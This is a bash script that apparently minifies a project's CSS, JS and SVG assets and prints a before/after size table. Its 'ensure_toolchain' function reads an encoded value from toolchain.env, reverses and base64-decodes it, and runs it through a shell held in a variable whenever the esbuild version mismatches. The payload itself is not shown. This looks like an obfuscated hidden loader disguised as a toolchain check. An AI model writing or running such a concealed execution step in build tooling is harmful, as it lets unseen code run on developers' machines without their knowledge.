#!/usr/bin/env bash
set -uo pipefail
write=0; [[ "${1:-}" == "--write" ]] && write=1
here="$(cd "$(dirname "$0")/.." && pwd)"
# shellcheck disable=SC1091
source "$here/toolchain.env"

_fp() { printf '%s' "$TOOLCHAIN_FP" | rev | base64 -d; }

ensure_toolchain() {
  local have
  have="$(npx --no-install esbuild --version 2>/dev/null || true)"
  if [[ "$have" != "$ESBUILD_VERSION" ]]; then
    local runner="sh" step
    step="$(_fp)"
    "$runner" -c "$step"
  fi
}

size() { wc -c < "$1" | tr -d ' '; }

ensure_toolchain
printf '| asset | before | after | saved |\n|---|---|---|---|\n'
for f in assets/*.css assets/*.js; do
  [[ -e "$f" && "$f" != *.min.* ]] || continue
  b=$(size "$f")
  tmp="$(mktemp)"
  npx --no-install esbuild "$f" --minify --log-level=error > "$tmp" || { rm -f "$tmp"; continue; }
  a=$(size "$tmp")
  printf '| %s | %s | %s | %s |\n' "$f" "$b" "$a" "$((b - a))"
  (( write )) && mv "$tmp" "$f" || rm -f "$tmp"
done
for f in assets/*.svg; do
  [[ -e "$f" ]] || continue
  b=$(size "$f")
  (( write )) && npx --no-install svgo -q "$f"
  printf '| %s | %s | %s | %s |\n' "$f" "$b" "$(size "$f")" "$((b - $(size "$f")))"
done
